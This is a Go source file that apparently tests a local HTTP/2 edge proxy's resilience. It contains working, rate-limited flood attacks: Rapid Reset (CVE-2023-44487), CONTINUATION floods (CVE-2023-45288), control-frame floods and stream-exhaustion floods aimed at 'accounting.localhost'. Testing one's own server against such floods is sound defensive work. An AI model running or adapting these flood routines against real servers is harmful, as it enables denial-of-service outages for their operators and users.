package attacks

import (
	"bytes"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

var plainGet = []string{":method", "GET", ":scheme", "https", ":authority", "accounting.localhost", ":path", "/api/flood"}

// floodTotals counts what the connections of a flood have sent and got until now.
type floodTotals struct {
	steps, opened, closedByEdge, resets atomic.Int64

	mu                sync.Mutex
	goaways, statuses map[string]int
}

func newFloodTotals() *floodTotals {
	return &floodTotals{goaways: make(map[string]int), statuses: make(map[string]int)}
}

func (f *floodTotals) statusCount(status string) int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.statuses[status]
}

// flood describes a flood of HTTP/2 frames.
type flood struct {
	what        string
	connections int
	perSecond   int           // steps on all connections together
	duration    time.Duration // at least

	// isAnswered reports whether the edge has shown how it treats the flood. Until then the flood goes on, for at most maxFlood: how
	// many steps an attacker gets done in a given time depends on what else the machine does.
	isAnswered func(*floodTotals) bool

	step func(p *http2Conn, i int) error // sends the frames of one step
}

// maxFlood is how long a flood lasts at most.
const maxFlood = time.Minute

// flood runs a flood, and prints how the connections ended. The rate is limited because the edge shares the two CPUs of this machine
// with its attackers and with other users. What an attacker with more bandwidth sends has to be filtered before it reaches the edge
// (SECURITY.md).
func (s *attacker) flood(f flood) {
	if speed, err := strconv.ParseFloat(os.Getenv(speedEnv), 64); err == nil {
		f.perSecond = int(float64(f.perSecond) * speed)
	}
	// Each connection sends perBeat steps at a time.
	perBeat := max(1, f.perSecond/100/f.connections)
	beat := time.Second * time.Duration(perBeat*f.connections) / time.Duration(f.perSecond)
	totals := newFloodTotals()
	began := time.Now()
	goesOn := func() bool {
		elapsed := time.Since(began)
		return elapsed < f.duration || elapsed < maxFlood && !f.isAnswered(totals)
	}
	var group sync.WaitGroup
	for range f.connections {
		group.Go(func() {
			for goesOn() {
				p, err := s.dialHTTP2(totals)
				if err != nil {
					time.Sleep(10 * time.Millisecond)
					continue
				}
				next := time.Now()
				for i := 0; err == nil && (i%perBeat > 0 || goesOn()); i++ {
					if i%perBeat == 0 {
						time.Sleep(time.Until(next))
						next = next.Add(beat)
					}
					if err = f.step(p, i); err == nil {
						totals.steps.Add(1)
					}
				}
				if err == nil {
					_ = p.conn.Close() // the edge has not closed it
				}
				<-p.closed
				p.conn.Close()
				if err != nil {
					totals.mu.Lock()
					totals.goaways[p.goaway.String()]++
					totals.mu.Unlock()
					totals.closedByEdge.Add(1)
				}
			}
		})
	}
	time.Sleep(f.duration / 2)
	s.printf("measure")
	group.Wait()
	s.printf("%s: %d sent on %d connections, %d of which the edge closed %v; answers %v, %d streams reset", f.what, totals.steps.Load(),
		totals.opened.Load(), totals.closedByEdge.Load(), totals.goaways, totals.statuses, totals.resets.Load())
}

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func (s *attacker) rapidReset() {
	s.flood(flood{
		what: "HEADERS and RST_STREAM", connections: 10, perSecond: 5_000, duration: 5 * time.Second,
		isAnswered: func(totals *floodTotals) bool { return hasSentThousands(totals) && totals.statusCount("429") > 0 },
		step: func(p *http2Conn, i int) error {
			id := uint32(2*i + 1)
			if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.headers(plainGet...), EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			return p.WriteRSTStream(id, http2.ErrCodeCancel)
		},
	})
}

func hasSentThousands(totals *floodTotals) bool { return totals.steps.Load() >= 1000 }

// continuationFlood sends headers that never end (CVE-2023-45288).
func (s *attacker) continuationFlood() {
	filler := bytes.Repeat([]byte{0x00, 0x01, 'x', 0x01, 'y'}, 3000) // fields x: y, not indexed
	s.flood(flood{
		what: "CONTINUATION of 15 kB", connections: 10, perSecond: 5_000, duration: 5 * time.Second,
		isAnswered: func(totals *floodTotals) bool { return totals.closedByEdge.Load() >= 10 },
		step: func(p *http2Conn, i int) error {
			if i == 0 {
				return p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.headers(plainGet...)})
			}
			return p.WriteContinuation(1, false, filler)
		},
	})
}

// controlFrames sends frames that are cheap to send and that the edge has to answer or to parse for nothing.
func (s *attacker) controlFrames() {
	send := func(what string, step func(p *http2Conn, i int) error) {
		s.flood(flood{
			what: what, connections: 4, perSecond: 50_000, duration: 2500 * time.Millisecond, isAnswered: hasSentThousands, step: step,
		})
	}
	send("PING", func(p *http2Conn, i int) error { return p.WritePing(false, [8]byte{byte(i)}) })
	send("SETTINGS", func(p *http2Conn, _ int) error {
		return p.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
	})
	send("empty DATA", func(p *http2Conn, i int) error {
		if i == 0 {
			fields := append([]string{":method", "POST"}, plainGet[2:]...)
			return p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.headers(fields...), EndHeaders: true})
		}
		return p.WriteData(1, false, nil)
	})
	send("PRIORITY", func(p *http2Conn, i int) error {
		return p.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3), Weight: byte(i)})
	})
}

// openStreams opens more streams than the edge allows, with bodies that never come, or with a flow-control window of 0.
func (s *attacker) openStreams() {
	send := func(what string, step func(p *http2Conn, i int) error) {
		s.flood(flood{
			what: what, connections: 10, perSecond: 2_500, duration: 4 * time.Second,
			isAnswered: func(totals *floodTotals) bool { return totals.resets.Load() >= 1000 }, step: step,
		})
	}
	send("POST without its body", func(p *http2Conn, i int) error {
		fields := append([]string{":method", "POST"}, plainGet[2:]...)
		return p.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: p.headers(fields...), EndHeaders: true})
	})
	send("answers that nobody takes", func(p *http2Conn, i int) error {
		if i == 0 {
			return p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}
		return p.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i - 1), BlockFragment: p.headers(plainGet...), EndStream: true, EndHeaders: true})
	})
}
